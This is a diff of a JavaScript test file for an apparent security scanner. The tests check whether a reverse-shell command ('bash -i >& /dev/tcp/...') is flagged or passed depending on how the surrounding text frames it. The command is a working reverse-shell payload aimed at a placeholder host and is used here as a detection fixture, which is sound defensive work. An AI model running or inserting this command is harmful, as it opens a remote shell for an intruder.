@@ -40,10 +40,11 @@ describe('code', () => {
     expect(alarms(scan(shell(code)))).toEqual([]);
   });
 
-  test('what a text shows as an attack is a note', () => {
+  test('what a text introduces as a pattern to detect is a note, whatever it says of itself', () => {
     const block = shell('bash -i >& /dev/tcp/192.0.2.7/99 0>&1');
-    expect(alarms(scan(`## What an attack looks like\n\n${block}`))).toEqual([]);
     expect(alarms(scan(`Never run this:\n\n${block}`))).toEqual([]);
+    expect(alarms(scan(`Flag commands like these:\n\n${block}`))).toEqual([]);
+    expect(alarms(scan(`## What an attack looks like\n\n${block}`))).toEqual(['error reverse-shell']);
     expect(alarms(scan(block, {}, { description: 'Teaches penetration testing.' }))).toEqual([
       'error reverse-shell',
     ]);
